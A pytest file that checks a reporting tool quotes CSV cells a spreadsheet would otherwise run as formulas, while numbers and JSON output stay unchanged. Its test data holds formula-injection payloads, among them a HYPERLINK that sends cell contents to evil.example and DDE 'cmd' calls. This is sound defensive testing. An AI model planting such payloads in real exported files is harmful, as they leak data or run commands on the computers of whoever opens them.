"""CSV cells a spreadsheet would run as formulas are neutralised; numbers and JSON are not."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from reports.files import spreadsheet_safe, table_csv
from reports.model import BY_NAME, Column

FORMULAS = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "-foo": "'-foo",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "\tTAB": "'\tTAB",
    "\rCR": "'\rCR",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(("text", "expected"), [
    *FORMULAS.items(),
    ("Noise - Residential", "Noise - Residential"),  # a dash inside is harmless
    ("-12", "-12"), ("+3.5", "+3.5"), ("-1e3", "-1e3"),  # plain numbers are no formulas
    ("'=already quoted", "'=already quoted"),
    ("", ""),
])
def test_text_cells_that_would_be_formulas_get_a_quote(text: str, expected: str) -> None:
    assert spreadsheet_safe(Column("complaint_type", "string", ""), text) == expected


@pytest.mark.parametrize("column_type", ["number", "integer", "datetime"])
def test_other_columns_are_never_touched(column_type: str) -> None:
    assert spreadsheet_safe(Column("x", column_type, ""), "-0.2500") == "-0.2500"


def test_the_methodology_and_the_data_package_say_so() -> None:
    from reports.files import datapackage
    from reports.site import methodology_page
    from tests.reports.publications import publication

    page = " ".join(methodology_page().decode().split())
    assert "single quote" in page and "The JSON files and the pages keep the text" in page
    pub = publication()
    package = datapackage(pub, {spec: b"" for spec in pub.tables})
    assert all("single quote" in r["description"] for r in package["resources"])


def test_a_negative_rate_stays_a_number_in_the_csv() -> None:
    spec = BY_NAME["reopen_rates"]
    body = table_csv(spec, [["2026-10", "-foo", "4", "1", "-0.2500", "-0.1000", "0.1000",
                             "-reliable"]]).decode()
    assert body.splitlines()[1] == "2026-10,'-foo,4,1,-0.2500,-0.1000,0.1000,'-reliable"


# ---------------------------------------------------------------- the real publication path

NOW = datetime(2026, 11, 28, tzinfo=UTC)


def test_published_csv_is_safe_and_json_keeps_the_text(settings, db, tmp_path) -> None:
    from reports.output import write_site
    from reports.publish import publish_month
    from tests.reports.test_publish import answer, closure, request, t

    types = list(FORMULAS)
    for i, ctype in enumerate(types):
        request(db, f"f{i}a", t(3), ctype=ctype, agency="HPD", agency_name="=EVIL()")
        request(db, f"f{i}b", t(4), ctype=ctype, agency="HPD", agency_name="=EVIL()")
        closure(db, f"f{i}a", t(5))
        answer(db, f"f{i}a", t(6), "AGREE", reopen=True)
    publish_month(db, "2026-10", now=NOW)
    write_site(settings, db, str(tmp_path / "site"))
    folder = tmp_path / "site" / "data" / "2026-10"

    def csv_rows(name: str) -> list[dict[str, str]]:
        text = (folder / f"{name}.csv").read_bytes().decode("utf-8")  # keep a lone \r
        return list(csv.DictReader(io.StringIO(text, newline="")))

    received = csv_rows("requests_received")
    assert sorted(r["complaint_type"] for r in received) == sorted(FORMULAS.values())
    assert {r["agency_name"] for r in received} == {"'=EVIL()"}
    assert {r["received"] for r in received} == {"2"}  # counts exactly as they were
    closures = csv_rows("closure_rates")
    # two requests per type: every rate is suppressed (below 10), the counts stay
    assert {(r["received"], r["closed"], r["closure_rate"], r["reliability"])
            for r in closures} == {("2", "1", "", "suppressed")}
    reopens = csv_rows("reopen_rates")
    assert {(r["surveys_answered"], r["reopen_requested"], r["reopen_rate"])
            for r in reopens} == {("1", "1", "")}
    for name in ("requests_received", "closure_rates", "reopen_rates", "satisfaction"):
        for row in csv_rows(name):
            for column, value in row.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, column)

    # JSON is not a spreadsheet: the text is published as it is
    rows = json.loads((folder / "requests_received.json").read_bytes())
    assert sorted(r["complaint_type"] for r in rows) == sorted(types)
    assert {r["agency_name"] for r in rows} == {"=EVIL()"}
    assert {r["received"] for r in rows} == {2}
